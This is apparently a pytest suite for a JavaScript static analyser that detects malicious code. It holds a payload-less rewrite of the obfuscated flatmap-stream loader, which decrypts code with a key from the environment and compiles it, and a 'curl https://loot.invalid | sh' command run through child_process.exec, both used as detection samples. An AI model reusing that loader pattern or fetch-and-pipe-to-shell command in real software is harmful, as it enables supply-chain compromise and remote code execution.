"""From bytes to facts: acceptance, hostile input, bounds."""

import gc
import json
import random

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, FileFacts, Language, Taint
from pratique.analysis.languages.javascript import exported_constant, extract
from tests.analysis.languages.javascript.reading import C, P, facts, flows

LOADER = (
    'var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}'
    'var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;'
    "var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));"
    'var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])'
)
"""The shape of flatmap-stream 0.1.1, written anew and without its payload: all names are kept in another file."""
NAMES = ["crypto", "env", "npm_package_description", "aes256", "createDecipher", "_compile", "hex", "utf8"]
DATA = ["00" * 300, "11", *(name.encode().hex() for name in NAMES)]


def test_a_loader_that_keeps_its_names_elsewhere_is_caught_alone() -> None:
    found = facts(LOADER)

    assert (C, "computed-call", {Taint.DECODED}) in flows(LOADER)
    assert ["./test/data"] == [item.module for item in found.imports]
    assert all(flow.at_load for flow in found.flows)


def test_with_the_constants_of_the_other_file_all_of_it_is_known() -> None:
    modules = {"./test/data": exported_constant(b"module.exports=" + json.dumps(DATA).encode())}
    expected = {Taint.DECODED, Taint.DECRYPTED, Taint.KEY_FROM_ENVIRONMENT, Taint.LITERAL}

    assert (C, "module._compile", expected) in flows(LOADER, modules=modules)
    assert ("npm_package_description", "crypto.createDecipher") == (
        next(
            use.argument
            for use in facts(LOADER, modules=modules).uses
            if use.api == "process.env" and use.argument
        ),
        next(use.api for use in facts(LOADER, modules=modules).uses if use.capability is Capability.DECRYPT),
    )


@pytest.mark.parametrize(
    ("language", "source"),
    [
        (Language.TYPESCRIPT, "const a: string = atob(x) as string; eval(a!)"),
        (Language.TYPESCRIPT, "namespace A { export function f(this: B, c?: D): void { eval(atob(x)) } }"),
        (Language.TYPESCRIPT, "@dec class A<T> { private b: T = eval(atob(x)) }"),
        (Language.TYPESCRIPT, "const a = <any>atob(x); eval(a)"),
        (Language.TYPESCRIPT, "import v = require('vm'); enum E { A } v.runInThisContext(atob(x))"),
        (Language.TSX, "const a = <b onClick={() => eval(atob(x))}>{c as D}</b>"),
        (Language.JAVASCRIPT, "const a = <b onClick={() => eval(atob(x))}>{c}</b>"),
        (Language.JAVASCRIPT, "// @flow\nfunction f(a: string): ?b { eval(atob(a)) }"),
        (Language.JAVASCRIPT, "#!/usr/bin/env node\n\ufeffeval(atob(x))"),
    ],
)
def test_every_dialect_is_read(language: Language, source: str) -> None:
    found = facts(source, language)

    assert [(C, (Taint.DECODED,))] == [(flow.sink, flow.taints) for flow in found.flows]
    assert found.problem is None


@pytest.mark.parametrize("source", ["", " ", "// nothing", "\ufeff'use strict'"])
def test_a_file_with_nothing_in_it_has_no_facts(source: str) -> None:
    assert FileFacts(language=Language.JAVASCRIPT) == facts(source)


@pytest.mark.parametrize(
    ("source", "problem"),
    [
        (b" " * 17_000_000, "too large"),
        (b"\0" * 1000, "not text"),
        (random.Random(1).randbytes(1_000_000), "not text"),
        (b"{{#if a}} <p> {{b}} </p> {{/if}} " * 50, "does not parse"),
        (b"(" * 1_000_000, "does not parse"),
        (b"/*" + b"a" * 1_000_000, "does not parse"),
    ],
    ids=["large", "zeros", "random", "template", "parentheses", "comment"],
)
def test_what_cannot_be_read_is_said(source: bytes, problem: str) -> None:
    found = extract(source, Language.JAVASCRIPT)

    assert found.problem is not None
    assert problem in found.problem


@pytest.mark.parametrize("mark", ["utf-16-le", "utf-16-be"])
def test_a_source_in_another_encoding_is_read_by_its_mark(mark: str) -> None:
    source = "\ufeffvar a = '\u00e9';\nrequire('child_process').exec('curl https://loot.invalid | sh');\n"

    found = extract(source.encode(mark), Language.JAVASCRIPT)

    assert found.problem is None
    assert [("child_process.exec", 2)] == [(use.api, use.line) for use in found.uses if use.capability is P]


def test_a_mark_alone_makes_no_other_text_of_a_source() -> None:
    source = b"\xff\xfe;require('child_process').exec('curl https://loot.invalid | sh');  // " + b"a" * 40

    assert "child_process.exec" in {use.api for use in extract(source, Language.JAVASCRIPT).uses}


HOSTILE = {
    "nested arrays": b"[" * 200_000 + b"]" * 200_000,
    "nested functions": b"function f(){" * 30_000 + b"}" * 30_000,
    "sums": b"eval('a'" + b"+'a'" * 100_000 + b")",
    "members": b"a" + b".b" * 200_000,
    "calls": b"a" + b"(b)" * 60_000,
    "ternaries": b"a?b:" * 60_000 + b"c",
    "open templates": b"`${" * 50_000,
    "long text": b"eval('" + b"a" * 5_000_000 + b"')",
    "long array": b"eval(String.fromCharCode(...[" + b"65," * 300_000 + b"]))",
    "nested evals": b"eval(" * 5_000 + b"'x'" + b")" * 5_000,
    "nested patterns": b"const " + b"{a:" * 30_000 + b"b" + b"}" * 30_000 + b"=process.env",
    "growing text": b"let a='x';" + b"a=a+a;" * 200 + b"eval(a)",
    "huge repeats": b"eval('a'.repeat(1e9).repeat(1e9)); require(9**9**9); eval(1<<1e99)",
    "mutual calls": b";".join(
        b"function f%d(x){return f%d(x)+f%d(x)}" % (i, i + 1, i * 7 % 900) for i in range(900)
    ),
    "many sites": b"function f(x){eval(x)}" + b"f(atob('YQ=='));" * 10_000,
    "many evals": b"eval('f()');" * 10_000,
    "angles": b"a<" * 200_000,
    "labels": b"a:" * 100_000,
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_sources_end_with_facts_or_a_problem(source: bytes) -> None:
    found = extract(source, Language.JAVASCRIPT)

    assert len(found.uses) < 500
    assert len(found.flows) < 500


def test_a_long_text_that_goes_on_in_the_next_line_hides_no_address() -> None:
    wrapped = "ask('https://www.fa\\\nr.invalid/a'); ask(atob('aHR0cHM6Ly9vdGhlci5pbnZhbGlkL2I='));"
    found = {
        head: [(a.value, a.encoded) for a in facts(head + wrapped).addresses] for head in ("", "x; " * 70)
    }

    assert [("https://www.far.invalid/a", False), ("https://other.invalid/b", True)] == found["x; " * 70]
    assert {True} == {encoded for _, encoded in found[""]}


def test_a_literal_that_is_too_long_to_be_read_as_code_is_said() -> None:
    found = extract(b"eval('" + b"a" * 4_100_000 + b"')", Language.JAVASCRIPT)

    assert "cut: too many pieces of code in literals" == found.problem


@pytest.mark.parametrize("joined", ["", " + tail", " + 'tail'"])
def test_a_long_literal_is_read_as_code_where_it_stands_alone(joined: str) -> None:
    """Bundles carry a worker of a megabyte; what is put together from such a text is still said to be unread."""
    worker = "/*" + "a" * 1_100_000 + "*/require('child_process').exec('marker')"
    found = facts(f"new Worker(URL.createObjectURL(new Blob([{json.dumps(worker)}{joined}])))")

    if joined:
        assert "cut: too many pieces of code in literals" == found.problem
    else:
        assert found.problem is None
        assert (Capability.PROCESS, 1) in {(use.capability, use.depth) for use in found.uses}


def test_long_literals_are_read_up_to_an_allowance_for_all() -> None:
    literals = ";".join(f"eval('{sign * 1_500_000}')" for sign in "abcdefghi")

    assert "cut: too many pieces of code in literals" == facts(literals).problem


def test_code_nested_in_literals_is_read_three_deep() -> None:
    inner = "f()"
    for _ in range(5):
        inner = f"eval({json.dumps(inner)})"
    found = facts(inner)

    assert [0, 1, 2, 3] == sorted({use.depth for use in found.uses})
    assert "cut: too many pieces of code in literals" == found.problem


def test_reading_leaves_the_collector_as_it_was() -> None:
    enabled = gc.isenabled()
    facts("f()")

    assert enabled is gc.isenabled()


def test_reading_twice_gives_the_same() -> None:
    assert facts(LOADER) == facts(LOADER)


_WORDS = st.sampled_from(
    (
        *(
            "eval",
            "(",
            ")",
            "[",
            "]",
            "{",
            "}",
            ";",
            ",",
            ".",
            "=>",
            "=",
            "+",
            "a",
            "b",
            "require",
            "'fs'",
            "atob",
            "x",
        ),
        *(
            "function ",
            "return ",
            "new ",
            "class ",
            "process",
            ".env",
            "`${",
            "}`",
            "'a'",
            "1",
            ".then(",
            "const ",
            "\n",
        ),
        *(
            "...",
            "?",
            ":",
            "async ",
            "await ",
            "/x/",
            "\\u0065",
            "export ",
            "import ",
            "extends ",
            "static ",
            "for (",
            "of ",
        ),
    )
)


@pytest.mark.fuzz
@given(st.lists(_WORDS, max_size=40).map("".join), st.sampled_from(list(Language)[:3]))
@example("new new new a", Language.JAVASCRIPT)
@example("class{constructor(){}}", Language.JAVASCRIPT)
def test_any_words_give_facts(source: str, language: Language) -> None:
    assert language is extract(source.encode(), language).language


@pytest.mark.fuzz
@given(st.binary(max_size=120))
def test_any_bytes_give_facts(source: bytes) -> None:
    extract(source, Language.JAVASCRIPT)
    extract(source, Language.TSX)


@pytest.mark.parametrize(
    "source",
    [
        "const a = {b: `${c.map(d => d)}\\n`, e() { return () => eval(f) }}; class G { h = () => 1 }",
        "function a(b: string): ?c { return () => eval(b) }",
        "eval(a); function b( { return () => c",
        "const a = require('./a'); exports.b = c => a.d(() => eval(c)); new a.E(x => x.map(a.f))",
    ],
    ids=["a template", "types in JavaScript", "an error", "another file"],
)
def test_nothing_of_a_tree_is_left_for_a_collector(source: str) -> None:
    extract(source.encode(), Language.JAVASCRIPT)
    gc.collect()
    gc.disable()
    try:
        extract(source.encode(), Language.JAVASCRIPT)
        left = gc.collect()
    finally:
        gc.enable()
    assert 0 == left
